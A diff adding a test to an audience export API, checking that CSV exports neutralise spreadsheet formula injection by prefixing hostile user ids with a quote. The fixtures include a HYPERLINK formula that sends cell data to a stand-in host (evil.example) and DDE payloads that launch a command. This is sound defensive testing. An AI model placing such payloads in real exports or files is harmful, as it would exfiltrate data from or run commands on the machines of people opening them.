@@ -55,6 +55,36 @@ def test_export_unformatted_formatted_and_single_column(people):
     assert status == 400 and body["error"]["details"][0]["path"] == "format"
 
 
+def test_exported_ids_a_spreadsheet_would_run_as_formulas_are_written_as_text(people):
+    # Anyone who can send an identify chooses their ids: a user_id of =HYPERLINK(...) or @SUM(...) was
+    # written as is, and ran as a formula for the marketer who opened the export in Excel (CSV injection)
+    hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0",
+               "-2+3+cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "\t=1+1"]
+    for i, value in enumerate(hostile):
+        make_profile(f"h{i}", ids={"user_id": value, "phone": "+15551234567", "email": f"-h{i}@example.com"})
+    make_profile("n1", ids={"user_id": "-42"})
+    call_api("POST", "/v1/audiences/vips/members",
+             {"add": [f"email:-h{i}@example.com" for i in range(len(hostile))] + ["user_id:-42"]})
+    status, body = call_api("GET", "/v1/audiences/vips/export", query={"format": "formatted"})
+    assert status == 200
+    table = rows(body)
+    column = {name: i for i, name in enumerate(table[0])}
+    user_ids = {r[0]: r[column["user_id"]] for r in table[1:]}
+    assert [user_ids[f"h{i}"] for i in range(len(hostile))] == ["'" + value for value in hostile]
+    # ids no formula can hide in are kept as they are: numbers and phone numbers
+    assert user_ids["n1"] == "-42" and user_ids["p2"] == "2"
+    assert {r[column["phone"]] for r in table[1:] if r[0].startswith("h")} == {"+15551234567"}
+    assert {r[column["email"]] for r in table[1:] if r[0] == "h0"} == {"'-h0@example.com"}
+    # the JSON column keeps the ids exactly (it starts with {)
+    assert json.loads(next(r for r in table[1:] if r[0] == "h0")[1])["user_id"] == [hostile[0]]
+    status, body = call_api("GET", "/v1/audiences/vips/export",
+                            query={"format": "single_column", "id_type": "user_id", "hash": "none"})
+    assert sorted(r[0] for r in rows(body)[1:]) == sorted(["1", "2", "-42", *("'" + value for value in hostile)])
+    # hashes are of the id itself
+    status, body = call_api("GET", "/v1/audiences/vips/export", query={"format": "single_column", "id_type": "user_id"})
+    assert hashlib.sha256(hostile[0].encode()).hexdigest() in body
+
+
 def test_preview_estimates_size_and_shows_matching_profiles(people):
     status, body = call_api("POST", "/v1/audiences:preview",
                             {"condition": {"trait": "plan", "op": "eq", "value": "pro"}})
